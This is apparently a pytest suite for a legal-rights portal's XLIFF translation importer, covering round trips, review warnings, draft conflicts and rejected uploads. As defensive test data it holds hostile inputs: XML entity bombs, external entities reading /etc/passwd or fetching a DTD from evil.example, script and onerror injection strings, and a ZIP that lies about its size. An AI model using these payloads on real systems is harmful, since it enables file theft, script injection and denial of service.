"""What comes back as XLIFF: read, compared, and taken as drafts in review."""

import struct
import tracemalloc
import zipfile
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st

from countries.models import Country
from portal.text import richtext
from rights.models import Publication, Question, Revision
from rights.services import drafting, errors, publishing, revisions
from rights.xliff import importing, markup
from rights.xliff.importing import RemarkKind
from rights.xliff.markup import XLIFF
from rights.xliff.segments import GAP
from tests.rights.importer.conftest import BODY, LEGAL_BASIS
from tests.rights.xliff.translator import (
    document,
    exported,
    fill_in,
    in_latvian,
    q,
    read,
    say,
    sent_back,
    target,
    unit,
    zipped,
)
from tests.timing import Stopwatch

pytestmark = pytest.mark.django_db
State = Revision.State


@pytest.fixture
def filled(cast, estonia, damages):
    """The file of `damages` as a careful translator sends it back."""
    return fill_in(document(cast.translator, estonia))


@pytest.fixture
def look(cast, estonia):
    """What an editor is shown of a document: the proposals."""

    def look(root, user=None, country=None):
        return importing.proposals(user or cast.translator, country or estonia, read(sent_back(root)))

    return look


@pytest.fixture
def take(cast, estonia, look):
    """Looks at a document, then takes every answer of it."""

    def take(root, user=None, **options):
        user = user or cast.translator
        return [
            importing.take(user, estonia, proposal.translated, proposal.fingerprint, **options)
            for proposal in look(root, user)
        ]

    return take


def kinds(proposal) -> list[RemarkKind]:
    return [remark.kind for remark in proposal.remarks]


def drafts():
    return Revision.objects.filter(language="lv")


# Round trip


def test_a_careful_translation_becomes_a_draft_in_review_and_nothing_is_lost(cast, filled, take, damages):
    [taken] = take(filled)
    draft = drafts().get()
    assert (taken.draft, taken.sentences, taken.is_in_review) == (draft, (), True)
    assert draft.state == State.IN_REVIEW
    assert draft.summary == "Ask thē court for damagēs."
    assert draft.body == richtext.clean(
        "<h2>How to ask</h2>\n<p>Writē to thē <strong>court</strong>.<br>Sēē thē "
        '<a href="https://example.eu/act">Victims Act</a>.</p>\n'
        "<ul>\n<li>namē</li>\n<li>sum of <em>monēy</em></li>\n</ul>"
    )
    assert draft.legal_basis == in_latvian(LEGAL_BASIS)
    assert draft.based_on == revisions.published_revision(damages, "en")
    assert (draft.author, draft.origin, draft.kind) == (cast.translator, Revision.Origin.TRANSLATION, "text")
    assert [source.slug for source in draft.sources.all()] == ["test-source"]


def test_nothing_is_ever_published(filled, take):
    before = list(Publication.objects.values())
    take(filled)
    assert list(Publication.objects.values()) == before


def test_looking_changes_nothing(filled, look):
    [proposal] = look(filled)
    assert (proposal.may_be_taken, proposal.is_unremarkable, proposal.remarks) == (True, True, [])
    assert "<ins>" in proposal.changes.summary
    assert drafts().count() == 0


@pytest.mark.slow
def test_what_ships_comes_back_word_for_word(cast, estonia, shipped, take):
    """Every answer of a real country, filled in with its own words, renders its original to the letter."""
    root = fill_in(document(cast.author, estonia, "mt"), lambda words: words)
    results = take(root, cast.author)
    assert len(results) > 20
    assert [result.sentences for result in results if not result.is_in_review] == []
    for result in results:
        fields = ("summary", "body", "legal_basis", "based_on_id")
        draft, original = result.draft, result.proposal.made_from
        assert [getattr(draft, name) for name in fields[1:2]] == [original.body]
        assert draft.legal_basis.split() == original.legal_basis.split()
        assert draft.summary.split() == original.summary.split()
        assert draft.based_on_id == original.pk


def test_a_public_translation_that_went_along_comes_back_as_unchanged(cast, estonia, shipped, look):
    root = document(cast.author, estonia, "lv")
    for segment in root.iter(q("segment")):
        assert segment.find(q("target")) is not None
    found = look(root, cast.author)
    assert len(found) > 20
    assert {proposal.obstacle.kind for proposal in found} == {RemarkKind.UNCHANGED}


def test_the_title_of_an_abbreviation_is_translated_with_it(cast, estonia, publish_text, take):
    body = '<p>An <abbr title="Arrest &amp; &quot;Warrant&quot;">AW</abbr>.</p>'
    publish_text("EE", "appeal", "en", source_language="en", body=body)
    take(fill_in(document(cast.translator, estonia), str.swapcase))
    assert drafts().get().body == '<p>aN <abbr title="aRREST &amp; &quot;wARRANT&quot;">aw</abbr>.</p>'


def test_answers_that_say_that_there_is_no_right_come_back_too(cast, estonia, publish_text, take):
    publish_text("EE", "appeal", "en", source_language="en", kind="no-right", summary="There is none.", body="")
    [taken] = take(fill_in(document(cast.translator, estonia)))
    assert taken.is_in_review
    assert (taken.draft.kind, taken.draft.summary, taken.draft.body) == ("no-right", "Thērē is nonē.", "")


def test_what_a_translation_has_and_the_original_has_not_stays(cast, estonia, publish_text, take):
    publish_text("EE", "appeal", "en", source_language="en")
    publish_text("EE", "appeal", "lv", legal_basis="Likums")
    publish_text("EE", "appeal", "en", summary="A new summary.")
    take(fill_in(document(cast.translator, estonia)))
    assert drafts().get(state=State.IN_REVIEW).legal_basis == "Likums"


def test_a_new_version_continues_the_public_one(cast, filled, take, publish_text):
    public = revisions.published_revision(publish_text("EE", "damages", "lv"), "lv")
    take(filled)
    draft = drafts().get(state=State.IN_REVIEW)
    assert draft.parent == public
    publishing.publish(draft, cast.reviewer)
    assert Publication.objects.get(language="lv").revision == draft


# How tools write


def test_sentences_that_a_tool_cut_are_joined(filled, look):
    paragraph = unit(filled, "body-2")
    paragraph.remove(paragraph.find(q("segment")))
    for tag, source, translation in (
        ("segment", 'Write to the <sc id="1"/>court', '<target>Raksti <sc id="1"/>tiesai</target>'),
        ("ignorable", " ", ""),
        ("segment", 'x<ec startRef="1"/>.', '<target order="4">šeit<ec startRef="1"/>.</target>'),
        ("segment", "y", '<target order="3">Tūlīt </target>'),
        (
            "segment",
            '<ph id="2"/><pc id="3">z</pc>',
            '<target order="5"><mrk id="m" type="x:y"><ph id="2"/><pc id="3">'
            'li<cp hex="016B"/>k<sm id="n"/>s<em startRef="n"/></pc></mrk></target>',
        ),
    ):
        paragraph.append(ET.fromstring(f'<{tag} xmlns="{XLIFF}"><source>{source}</source>{translation}</{tag}>'))
    [proposal] = look(filled)
    assert (
        '<p>Raksti <strong>tiesai Tūlīt šeit</strong>.<br><a href="https://example.eu/act">liūks</a></p>'
        in proposal.text.body
    )
    assert kinds(proposal) == [RemarkKind.ORIGINAL]


def test_the_words_of_the_tags_in_the_file_are_never_read(filled, take):
    for data in filled.iter(q("data")):
        data.text = "<script>alert(1)</script>"
    target(filled, "body-2")[0].set("dataRefStart", "e1")
    [taken] = take(filled)
    assert "script" not in taken.draft.body
    assert "<strong>court</strong>" in taken.draft.body


def test_markup_in_the_words_stays_words(filled, take):
    say(filled, "body-3", "&lt;img src=x onerror=alert(1)&gt;")
    [taken] = take(filled)
    assert "<li>&lt;img src=x onerror=alert(1)&gt;</li>" in taken.draft.body


def test_files_and_groups_may_be_arranged_anew(filled, look):
    file = filled.find(q("file"))
    group = ET.SubElement(file, q("group"), id="g")
    for each in file.findall(q("unit")):
        file.remove(each)
        group.insert(0, each)
    file.set("id", "f1")
    assert look(filled)[0].is_unremarkable


def test_regional_languages_count_as_their_language(filled, look):
    filled.set("srcLang", "en-GB")
    filled.set("trgLang", "lv_LV")
    assert look(filled)[0].is_unremarkable


def test_a_question_that_was_renamed_since_is_found(filled, look, reference):
    question = Question.objects.get(slug="damages")
    question.slug = "claiming-damages"
    question.save()
    assert look(filled)[0].question == question


# Warnings


def test_unchanged(filled, take, look, cast):
    [taken] = take(filled)
    [proposal] = look(filled)
    assert (proposal.obstacle.kind, proposal.may_be_taken) == (RemarkKind.UNCHANGED, False)
    publishing.publish(taken.draft, cast.reviewer)
    [proposal] = look(filled)
    assert (proposal.obstacle.kind, proposal.obstacle.sentence) == (
        RemarkKind.UNCHANGED,
        "Nothing is changed: the portal has this text already.",
    )
    [again] = take(filled)
    assert (again.draft, again.sentences) == (None, (proposal.obstacle.sentence,))


def test_the_same_words_for_a_newer_original_may_be_taken(cast, estonia, filled, take, look, publish_again):
    [taken] = take(filled)
    publishing.publish(taken.draft, cast.reviewer)
    publish_again(body=BODY.replace("</h2>", "?</h2>"))
    root = document(cast.translator, estonia)
    say(fill_in(root), "body-1", "How to ask")
    [proposal] = look(root)
    assert kinds(proposal) == [RemarkKind.UNCHANGED]
    assert not proposal.is_unremarkable
    [taken] = take(root)
    assert taken.is_in_review
    assert taken.draft.based_on.number == 2


def test_twice_in_an_upload(cast, estonia, filled, damages):
    data = sent_back(filled)
    first, second = importing.proposals(cast.translator, estonia, read(zipped({"a.xlf": data, "b.xlf": data})))
    assert first.is_unremarkable
    assert second.obstacle.kind == RemarkKind.DUPLICATE


def test_the_second_of_two_counts_where_the_first_cannot_be_taken(cast, estonia, filled, damages):
    good = sent_back(filled)
    for old in list(filled.iter(q("target"))):
        old.clear()
    files = {"a.xlf": sent_back(filled), "b.xlf": good}
    first, second = importing.proposals(cast.translator, estonia, read(zipped(files)))
    assert first.obstacle.kind == RemarkKind.EMPTY
    assert second.is_unremarkable


def test_a_unit_twice(filled, look):
    file = filled.find(q("file"))
    double = ET.fromstring(ET.tostring(unit(filled, "summary")))
    double.find(f".//{q('target')}").text = "Otrs."
    file.append(double)
    [proposal] = look(filled)
    assert kinds(proposal) == [RemarkKind.DUPLICATE]
    assert proposal.text.summary == "Ask thē court for damagēs."


def test_outdated(filled, look, take, publish_again):
    publish_again(summary="Ask the court or the state.")
    [proposal] = look(filled)
    assert kinds(proposal) == [RemarkKind.OUTDATED]
    assert "version 1" in proposal.remarks[0].sentence
    assert "version 2" in proposal.remarks[0].sentence
    assert "<ins>" in proposal.changes_of_the_original.summary
    [taken] = take(filled)  # to take it is to confirm it
    assert taken.is_in_review
    assert taken.draft.based_on.number == 1


def test_the_original_was_withdrawn(cast, filled, look, take, damages):
    publishing.withdraw(damages, "en", cast.reviewer, "Wrong.")
    [proposal] = look(filled)
    assert kinds(proposal) == [RemarkKind.OUTDATED]
    assert proposal.changes_of_the_original is None
    [taken] = take(filled)
    assert taken.draft.based_on == proposal.made_from


def test_an_original_of_another_portal(filled, look):
    unit(filled, "summary").find(f".//{q('source')}").text = "What another portal says."
    [proposal] = look(filled)
    assert kinds(proposal) == [RemarkKind.ORIGINAL]
    assert proposal.may_be_taken


def test_lost_tags(filled, look, take):
    say(filled, "body-2", 'Rakstiet tiesai.<ph id="2"/> Skat. <pc id="3">likumu</pc>.')
    [proposal] = look(filled)
    assert kinds(proposal) == [RemarkKind.TAGS]
    assert (
        proposal.remarks[0].sentence == "Tags of the original are lost in “Rakstiet tiesai. Skat. likumu.”: <strong>."
    )
    [taken] = take(filled)
    assert "<p>Rakstiet tiesai.<br> Skat. " in taken.draft.body


@pytest.mark.parametrize(
    ("words", "html"),
    [
        ('<pc id="1">a</pc><ph id="2"/><pc id="3">b</pc><pc id="9">c</pc>', "{}c"),
        ('<pc id="1">a</pc><ph id="2"/><pc id="3">b</pc><pc id="1">c</pc>', "{}<strong>c</strong>"),
        ('<sc id="1"/>a<ec startRef="1"/><ph id="2"/><sc id="3"/>b', "{}"),
        ('<pc id="1">a</pc><pc id="2"/><pc id="3">b</pc>', "{}"),
        ('<sc id="3"/><sc id="1"/>a<ec startRef="3"/><ec startRef="1"/><ph id="2"/><pc id="3">b</pc>', None),
    ],
)
def test_changed_tags(filled, look, words, html):
    say(filled, "body-2", words)
    [proposal] = look(filled)
    assert kinds(proposal) == [RemarkKind.TAGS]
    assert "only those of the original are kept" in proposal.remarks[0].sentence
    if html:
        whole = html.format('<strong>a</strong><br><a href="https://example.eu/act">b</a>')
        assert f"<p>{whole}</p>" in proposal.text.body


def test_a_joined_line_of_the_legal_basis(filled, look):
    say(filled, "legal-basis", "KPK, Atbalsta likums")
    [proposal] = look(filled)
    assert kinds(proposal) == [RemarkKind.TAGS]
    assert proposal.text.legal_basis == "KPK, Atbalsta likums"


def test_an_empty_target_keeps_the_answer_a_draft(filled, look, take):
    say(filled, "body-3", "  ")
    [proposal] = look(filled)
    assert kinds(proposal) == [RemarkKind.EMPTY]
    [taken] = take(filled)
    assert taken.draft.state == State.DRAFT
    assert taken.sentences == ("It is kept as a draft, because passages have no translation yet.",)
    assert f"<li>{GAP}</li>" in taken.draft.body
    assert taken.draft.summary == "Ask thē court for damagēs."


def test_a_missing_unit_counts_as_empty(filled, look):
    filled.find(q("file")).remove(unit(filled, "summary"))
    [proposal] = look(filled)
    assert kinds(proposal) == [RemarkKind.EMPTY]
    assert "1 passage has no translation" in proposal.remarks[0].sentence
    assert not proposal.complete


def test_a_sentence_without_translation_in_a_unit_counts_as_a_part(filled, look):
    ET.SubElement(ET.SubElement(unit(filled, "body-1"), q("segment")), q("source")).text = "More."
    [proposal] = look(filled)
    assert set(kinds(proposal)) == {RemarkKind.EMPTY, RemarkKind.ORIGINAL}


def test_nothing_translated(cast, estonia, damages, look):
    [proposal] = look(document(cast.translator, estonia))
    assert (proposal.obstacle.kind, proposal.changes) == (RemarkKind.EMPTY, None)


def test_a_unit_that_the_original_lacks_is_left_out(filled, look):
    unit(filled, "body-4").set("id", "EE.damages.body-99")
    [proposal] = look(filled)
    assert set(kinds(proposal)) == {RemarkKind.UNKNOWN, RemarkKind.EMPTY}
    assert "body-99" in proposal.remarks[0].sentence


def test_a_passage_far_longer_than_its_original(filled, look):
    say(filled, "body-3", "vārds " * 5000)
    assert look(filled)[0].obstacle.kind == RemarkKind.LENGTH


def test_links_of_the_present_translation_that_would_go(filled, look, publish_text):
    publish_text("EE", "damages", "lv", body='<p>Skat. <a href="https://example.eu/likums">Cietušo likumu</a>.</p>')
    [proposal] = look(filled)
    assert kinds(proposal) == [RemarkKind.LINKS]
    assert "https://example.eu/likums" in proposal.remarks[0].sentence


# What cannot be taken


def test_another_country(filled, look, cast):
    [proposal] = look(filled, cast.stranger, Country.objects.get(code="LV"))
    assert (proposal.obstacle.kind, proposal.question) == (RemarkKind.UNKNOWN, None)
    assert proposal.obstacle.sentence == "The text is of EE; you are importing for Latvia."


@pytest.mark.parametrize(("question", "said"), [("no-such-question", "no such question"), ("appeal", "not answered")])
def test_an_unknown_answer(filled, look, question, said):
    for each in filled.iter(q("unit")):
        each.set("id", each.get("id").replace("damages", question))
    [proposal] = look(filled)
    assert proposal.obstacle.kind == RemarkKind.UNKNOWN
    assert said in proposal.obstacle.sentence


def versions(root, numbers):
    metas = list(root.iter(f"{{{markup.METADATA}}}meta"))
    for place, meta in enumerate(metas):
        meta.text = numbers[place % len(numbers)]
    return root


@pytest.mark.parametrize(
    ("numbers", "said"),
    [
        (["7"], "no published version 7"),
        (["one"], "does not say"),
        (["1", "2"], "different versions"),
        (["1", ""], "different versions"),
        (["99999999999999999999"], "does not say"),
    ],
)
def test_an_unknown_version(filled, look, numbers, said):
    [proposal] = look(versions(filled, numbers))
    assert proposal.obstacle.kind == RemarkKind.UNKNOWN
    assert said in proposal.obstacle.sentence


def test_a_version_that_was_never_published_is_unknown(cast, filled, look, damages):
    draft = drafting.start_draft(damages, "en", cast.author)
    [proposal] = look(versions(filled, [str(draft.number)]))
    assert "no published version 2" in proposal.obstacle.sentence


def test_a_file_without_metadata_says_that_its_version_is_unknown(filled, look):
    for each in filled.iter(q("unit")):
        each.remove(each.find(f"{{{markup.METADATA}}}metadata"))
    assert "does not say" in look(filled)[0].obstacle.sentence


def test_the_wrong_languages(filled, look, cast):
    filled.set("srcLang", "fr")
    [proposal] = look(filled)
    assert proposal.obstacle.kind == RemarkKind.LANGUAGE
    assert proposal.obstacle.sentence == "The file translates from French; the original of this answer is in English."


def test_only_those_who_may_write_the_language_take_a_translation(filled, look, take, cast):
    for person in (cast.reviewer, cast.manager, cast.stranger):
        [proposal] = look(filled, person)
        assert proposal.obstacle.kind == RemarkKind.LANGUAGE
        assert take(filled, person)[0].draft is None
    filled.set("trgLang", "de")
    assert look(filled, cast.translator)[0].obstacle.kind == RemarkKind.LANGUAGE
    assert look(filled, cast.author)[0].is_unremarkable


# Drafts that are open already


def test_a_draft_of_somebody_else_is_left_alone(cast, filled, look, take, damages):
    draft = drafting.start_draft(damages, "lv", cast.author)
    [proposal] = look(filled)
    assert (proposal.obstacle.kind, proposal.overwrites) == (RemarkKind.OPEN, False)
    assert "author" in proposal.obstacle.sentence
    assert take(filled, overwrite=True)[0].draft is None
    assert list(drafts()) == [draft]


def test_a_draft_that_others_wrote_in_is_left_alone(cast, filled, look, damages):
    draft = drafting.start_draft(damages, "lv", cast.translator)
    drafting.save_draft(draft, cast.author, draft.saved_at, summary="Mine too.")
    assert look(filled)[0].obstacle.kind == RemarkKind.OPEN


def test_a_version_in_review_is_left_alone(filled, look, take):
    take(filled)
    say(filled, "summary", "Citādi.")
    [proposal] = look(filled)
    assert proposal.obstacle.kind == RemarkKind.OPEN
    assert take(filled, overwrite=True)[0].draft is None
    assert drafts().get().summary == "Ask thē court for damagēs."


def test_ones_own_draft_is_replaced_only_once_that_is_confirmed(cast, filled, look, take, damages):
    draft = drafting.start_draft(damages, "lv", cast.translator)
    draft = drafting.save_draft(draft, cast.translator, draft.saved_at, summary="My own words.")
    [proposal] = look(filled)
    assert (proposal.may_be_taken, proposal.overwrites, proposal.is_unremarkable) == (True, True, False)
    assert "<del>" in proposal.changes.summary
    [refused] = take(filled)
    assert (refused.draft, len(refused.sentences)) == (None, 1)
    assert list(drafts()) == [draft]
    [taken] = take(filled, overwrite=True)
    assert taken.is_in_review
    draft.refresh_from_db()
    assert (draft.state, draft.summary) == (State.DISCARDED, "My own words.")  # in the history, not lost


def test_a_draft_that_was_saved_after_the_page_was_shown_is_left_alone(cast, estonia, filled, look, damages):
    draft = drafting.start_draft(damages, "lv", cast.translator)
    [proposal] = look(filled)
    drafting.save_draft(draft, cast.translator, draft.saved_at, summary="Typed meanwhile.")
    taken = importing.take(cast.translator, estonia, proposal.translated, proposal.fingerprint, overwrite=True)
    assert taken.draft is None
    assert "changed after you opened this page" in taken.sentences[0]
    assert drafts().get().summary == "Typed meanwhile."


@pytest.mark.parametrize("language", ["en", "lv"])
def test_what_was_published_after_the_page_was_shown_is_not_overlooked(
    cast, estonia, filled, look, publish_text, publish_again, language
):
    [proposal] = look(filled)
    publish_again(summary="New.") if language == "en" else publish_text("EE", "damages", "lv")
    taken = importing.take(cast.translator, estonia, proposal.translated, proposal.fingerprint)
    assert (taken.draft, len(taken.sentences)) == (None, 1)


# Text checks and bad answers beside good ones


def test_a_text_that_the_checks_refuse_stays_a_draft_with_its_text(filled, take):
    say(filled, "summary", "Zvaniet uz tālruni +371 67001234.")
    [taken] = take(filled)
    assert taken.draft.state == State.DRAFT
    assert "telephone number" in taken.sentences[0]
    draft = drafts().get()
    assert draft.summary == "Zvaniet uz tālruni +371 67001234."
    assert "Sēē thē" in draft.body


def test_every_reason_of_the_checks_is_given(filled, take):
    say(filled, "summary", "Lorem ipsum " * 30)
    assert len(take(filled)[0].sentences) == 2


def test_one_bad_answer_does_not_stop_the_others(cast, estonia, damages, publish_text, take):
    for question in ("appeal", "contacts", "mediation"):
        publish_text("EE", question, "en", source_language="en")
    root = fill_in(document(cast.translator, estonia))
    say(root, "EE.appeal.summary", "TODO")
    for each in root.iter(q("unit")):
        if each.get("id").startswith("EE.contacts."):
            versions(each, ["12"])
    results = {taken.proposal.question.slug: taken for taken in take(root)}
    assert results["appeal"].draft.state == State.DRAFT
    assert results["contacts"].draft is None
    assert results["mediation"].is_in_review
    assert results["damages"].is_in_review


def test_an_answer_is_taken_whole_or_not_at_all(filled, take, monkeypatch):
    def refuse(*args, **kwargs):
        raise errors.Refusal("No.")

    monkeypatch.setattr(drafting, "save_draft", refuse)
    [taken] = take(filled)
    assert (taken.draft, taken.sentences) == (None, ("No.",))
    assert drafts().count() == 0


def test_a_refused_replacement_brings_the_own_draft_back(cast, filled, take, damages, monkeypatch):
    draft = drafting.start_draft(damages, "lv", cast.translator)

    def refuse(*args, **kwargs):
        raise errors.Refusal("No.")

    monkeypatch.setattr(drafting, "start_draft", refuse)
    [taken] = take(filled, overwrite=True)
    assert taken.sentences == ("No.",)
    draft.refresh_from_db()
    assert draft.state == State.DRAFT


def test_looking_at_a_whole_country_costs_a_handful_of_queries(cast, estonia, shipped, django_assert_max_num_queries):
    translated = read(exported(cast.author, estonia, "mt").content)
    with django_assert_max_num_queries(8):
        assert len(importing.proposals(cast.author, estonia, translated)) > 20


# Files that are refused


def refused(data: bytes, name="EE-lv.xlf") -> str:
    """The sentence on a file that cannot be read, whether it is the upload or in it."""
    try:
        translated, problems = markup.read_upload(name, data)
    except markup.Unreadable as unreadable:
        return str(unreadable)
    assert translated == []
    return " ".join(problem.sentence for problem in problems)


def with_entities(declared: str) -> bytes:
    start = f'<xliff xmlns="{XLIFF}" version="2.0" srcLang="en" trgLang="lv">'
    return f'<?xml version="1.0"?><!DOCTYPE x [{declared}]>{start}<file id="f">&a;</file></xliff>'.encode()


BOMB = with_entities(f'<!ENTITY c "{"c" * 50}"><!ENTITY b "{"&c;" * 50}"><!ENTITY a "{"&b;" * 50}">')
EXTERNAL = with_entities('<!ENTITY a SYSTEM "file:///etc/passwd">')
PARAMETER = with_entities('<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;')


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (BOMB, "refused for safety"),
        (EXTERNAL, "refused for safety"),
        (PARAMETER, "refused for safety"),
        (b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>', "refused for safety"),
        (b"", "empty"),
        (b" \n", "empty"),
        (b"not xml", "not well-formed"),
        (b"\x00\xff\xfe\x00", "not well-formed"),
        (b"<x", "not well-formed"),
        (b"<x>\n<y></x>", "line 2"),
        (b'<?xml version="1.0" encoding="no-such"?><x/>', "not well-formed"),
        (b'<?xml version="1.0" encoding="utf-7"?><x/>', "not well-formed"),
        (b"<html/>", "no XLIFF"),
        (b'<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"/>', "This is XLIFF 1.2."),
        (b'<xliff version="1.2"/>', "This is XLIFF 1.2."),
        (b'<xliff xmlns="urn:oasis:names:tc:xliff:document:2.2" version="2.2"/>', "This is XLIFF 2.2."),
        (b"<" * (markup.MOST_TAGS + 1), "too many tags"),
        (b" " * (markup.LARGEST + 1), "larger than 10 MB"),
        (b"PK\x03\x04 and rubbish", "damaged"),
        (zipped({}), "The ZIP is empty"),
        (zipped({"a.txt": b"x"}), "no XLIFF file"),
        (zipped({"a/b.xlf": b"x"}), "not well-formed"),
        (zipped({"inner.zip": zipped({"a.xlf": b""})}), "no XLIFF file"),
        (zipped({f"{n}.xlf": b"" for n in range(201)}), "more than 200 files"),
        (zipped({"a.xlf": b" " * markup.LARGEST, "b.xlf": b" "}), "larger than 10 MB"),
        (zipped({"a.xlf": b"x"}, zipfile.ZIP_LZMA), "unusual way"),
    ],
)  # fmt: skip
def test_a_file_that_cannot_be_read_gets_a_sentence(data, said):
    assert said in refused(data)


def root_with(**attributes) -> bytes:
    attributes = {"version": "2.0", "srcLang": "en", "trgLang": "lv"} | attributes
    return ET.tostring(ET.Element(q("xliff"), attributes))


@pytest.mark.parametrize(
    ("attributes", "said"),
    [
        ({}, "no answer of this portal"),
        ({"trgLang": "ru"}, "names no language of the portal in trgLang (“ru”)"),
        ({"srcLang": ""}, "srcLang"),
        ({"trgLang": "en-GB"}, "into the same one"),
        ({"trgLang": "x" * 500}, "“xxxxxxxxxxxxxxxxxxxx”"),
    ],
)
def test_a_document_that_is_not_for_this_portal_gets_a_sentence(attributes, said):
    assert said in refused(root_with(**attributes))


def test_more_answers_than_three_countries_have_are_refused():
    units = "".join(f'<unit id="EE.q-{n}.summary"><segment><source>a</source></segment></unit>' for n in range(201))
    start = f'<xliff xmlns="{XLIFF}" version="2.0" srcLang="en" trgLang="lv">'
    assert "more than 200 answers" in refused(f'{start}<file id="f">{units}</file></xliff>'.encode())


def test_the_file_of_another_portal(filled):
    for number, each in enumerate(filled.iter(q("unit"))):
        each.set("id", f"u{number}")
    assert "no answer of this portal" in refused(sent_back(filled))


def test_single_strange_units_are_passed_over_and_said(filled):
    unit(filled, "body-1").set("id", "tu1")
    [translated], [problem] = markup.read_upload("a.xlf", sent_back(filled))
    assert len(translated.units) == 5
    assert problem == ("a.xlf", "1 unit does not bear an id of this portal; it was passed over.")


def test_one_bad_file_in_a_zip_does_not_stop_the_others(filled):
    files = {"good.xlf": sent_back(filled), "bad.xlf": b"<", "read me.txt": b"hello", "__MACOSX/._good.xlf": b"\0"}
    translated, problems = markup.read_upload("all.zip", zipped(files))
    assert [row.file for row in translated] == ["good.xlf"]
    assert [problem.file for problem in problems] == ["bad.xlf", "read me.txt"]


def lying(size: int) -> bytes:
    """A ZIP whose directory says that a file of many megabytes unpacks to `size` bytes."""
    data = bytearray(zipped({"a.xlf": b" " * (40 * 1024 * 1024)}))
    for signature, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<I", data, data.rindex(signature) + place, size)
    return bytes(data)


def test_a_zip_that_lies_about_its_size_is_not_unpacked_whole():
    data = lying(100)
    tracemalloc.start()
    said = refused(data)
    _size, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert said
    assert peak < 5 * 1024 * 1024


def test_an_encrypted_zip():
    data = bytearray(zipped({"a.xlf": b"x"}))
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(signature) + place] |= 1
    assert "encrypted" in refused(bytes(data))


@pytest.mark.slow
def test_tags_nested_without_end_cost_no_more_than_others(cast, estonia, filled):
    say(filled, "body-2", "DEEP")
    with Stopwatch() as watch:
        proposals = []
        for tags in ("13", "123"):  # the second is a line break, of which a text may not have thousands
            deep = "".join(f'<pc id="{tags[n % len(tags)]}">' for n in range(50_000)) + "a" + "</pc>" * 50_000
            data = sent_back(filled).replace(b"DEEP", deep.encode())
            proposals += importing.proposals(cast.translator, estonia, read(data))
        kept, refused = proposals
        assert RemarkKind.TAGS in kinds(kept)
        assert '<p><strong><a href="https://example.eu/act">a</a></strong></p>' in kept.text.body
        assert refused.obstacle.kind == RemarkKind.LENGTH
    assert watch.seconds < 10


def test_characters_that_no_text_may_hold_are_dropped(filled, take):
    say(filled, "body-3", 'a<cp hex="0000"/><cp hex="D800"/><cp hex="FFFFFFFF"/><cp hex="110000"/><cp hex="zz"/><cp/>b')
    [taken] = take(filled)
    assert "<li>ab</li>" in taken.draft.body


def test_other_encodings_are_read(filled, look):
    data = ET.tostring(filled, encoding="utf-16", xml_declaration=True)
    assert read(data) == read(sent_back(filled))


def test_any_bytes_give_a_report():
    start = st.sampled_from([b"", b"PK\x03\x04", b"<?xml", root_with()[:-2], b"\xff\xfe<\0"])

    @given(st.tuples(start, st.binary(max_size=200)).map(b"".join))
    def reads(data):
        assert refused(data)

    reads()


def test_an_answer_that_would_be_more_than_a_text_may_be(filled, look, take, monkeypatch):
    """Every passage is within its own limit; together they are too much."""
    monkeypatch.setattr(richtext, "MOST_TAGS", 5)
    [proposal] = look(filled)
    assert proposal.obstacle.kind == RemarkKind.LENGTH
    assert "too many paragraphs" in proposal.obstacle.sentence
    assert not Revision.objects.filter(language="lv").exists()
